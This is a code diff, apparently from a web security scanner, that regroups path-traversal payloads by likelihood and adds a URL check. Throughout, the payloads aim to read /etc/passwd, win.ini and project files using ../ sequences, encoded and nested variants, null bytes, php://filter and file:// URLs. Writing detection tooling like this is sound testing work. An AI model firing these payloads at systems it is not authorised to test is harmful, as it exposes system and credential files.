@@ -15,25 +15,63 @@ const up = (step: string): string => step.repeat(steps)
 
 const { passwd, winIni, packageJson } = knownFiles
 
-/** The likeliest first. */
-const common: readonly TraversalPayload[] = [
-  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
-  { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` },
-  {
-    name: 'nested ../ sequences, which survive removal of ../',
-    file: passwd,
-    write: (_, path) => `${up('....//')}${path}`,
-  },
+// Read from a folder it leaves that, and read from nowhere else the steps at the root lead nowhere.
+const fromRoot: TraversalPayload = {
+  name: '../ sequences behind a slash',
+  file: passwd,
+  write: (_, path) => `/${up('../')}${path}`,
+}
+const absolute: TraversalPayload = { name: 'absolute path', file: passwd, write: (_, path) => `/${path}` }
+const afterFolder: TraversalPayload = {
+  name: '../ sequences after the directory of the value',
+  file: passwd,
+  write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
+}
+const phpFilter: TraversalPayload = {
+  name: 'php://filter',
+  file: { ...passwd, recognize: recognizeEncoded },
+  write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
+}
+const fileUrl: TraversalPayload = {
+  name: 'file:// URL',
+  file: passwd,
+  write: (_, path) => `file:///${path}`,
+}
+
+/** Ways that differ in what stands in front of a value, or checks it: the likeliest first. */
+const likeliest: readonly TraversalPayload[] = [
+  fromRoot,
   {
     name: 'double-encoded ../ sequences',
     file: passwd,
     write: (_, path) => `${up('%2e%2e%2f')}${path}`,
   },
+  absolute,
   {
-    name: '../ sequences after the directory of the value',
+    name: 'nested ../ sequences, which survive removal of ../',
     file: passwd,
-    write: (value, path) => `${folderOf(value)}${up('../')}${path}`,
+    write: (_, path) => `${up('....//')}${path}`,
   },
+]
+
+/** The same for what reads files of other kinds. */
+const elsewhere: readonly TraversalPayload[] = [
+  {
+    name: '..\\ sequences behind a backslash (Windows)',
+    file: winIni,
+    write: (_, path) => `\\${up('..\\')}${path}`,
+  },
+  phpFilter,
+  fileUrl,
+]
+
+/** In place of a URL: what fetches it takes no path without a scheme, but what opens it may. */
+const inUrl: readonly TraversalPayload[] = [fromRoot, fileUrl, absolute, phpFilter, afterFolder]
+
+/** What only a value needs that is known to be the path of a file. */
+const seldom: readonly TraversalPayload[] = [
+  { name: '../ sequences', file: passwd, write: (_, path) => `${up('../')}${path}` },
+  afterFolder,
   {
     name: '../ sequences with a null byte before the extension',
     file: passwd,
@@ -44,12 +82,6 @@ const common: readonly TraversalPayload[] = [
     file: passwd,
     write: (value, path) => `/${path}\0${extensionOf(value)}`,
   },
-  { name: 'file:// URL', file: passwd, write: (_, path) => `file:///${path}` },
-  {
-    name: 'php://filter',
-    file: { ...passwd, recognize: recognizeEncoded },
-    write: (_, path) => `php://filter/convert.base64-encode/resource=/${path}`,
-  },
   {
     name: 'twice double-encoded ../ sequences',
     file: passwd,
@@ -57,7 +89,6 @@ const common: readonly TraversalPayload[] = [
   },
   { name: '../ repeated 5 times', file: passwd, write: (_, path) => `${'../'.repeat(5)}${path}` },
   { name: '../ repeated 2 times', file: passwd, write: (_, path) => `${'../'.repeat(2)}${path}` },
-  { name: '..\\ sequences (Windows)', file: winIni, write: (_, path) => `${up('..\\')}${path}` },
   { name: 'absolute path (Windows)', file: winIni, write: (_, path) => `C:\\${path}` },
 ]
 
@@ -68,9 +99,25 @@ const ofProject: readonly TraversalPayload[] = [1, 2, 3, 4].map((count) => ({
   write: (_, path) => `${'../'.repeat(count)}${path}`,
 }))
 
+/** How many of the payloads, the likeliest first, tell something of values that are not known to be paths. */
+export const payloadCounts = {
+  first: 1,
+  /** With the way that is left where slashes are turned away. */
+  encoded: 2,
+  likeliest: likeliest.length,
+  ofAnyReader: likeliest.length + elsewhere.length,
+} as const
+
 /** The payloads for a parameter that has this value, the likeliest first. */
 export function traversalPayloadsFor(value: string): readonly TraversalPayload[] {
-  return value.endsWith('.json') ? [...common, ...ofProject] : common
+  if (isUrl(value)) return inUrl
+  const all = [...likeliest, ...elsewhere, ...seldom]
+  return value.endsWith('.json') ? [...all, ...ofProject] : all
+}
+
+/** Says whether a value is a URL with its scheme, which is no path to go on from. */
+export function isUrl(value: string): boolean {
+  return /^[a-z][a-z0-9+.-]{0,20}:\/\//i.test(value)
 }
 
 const base64CharsMin = 80
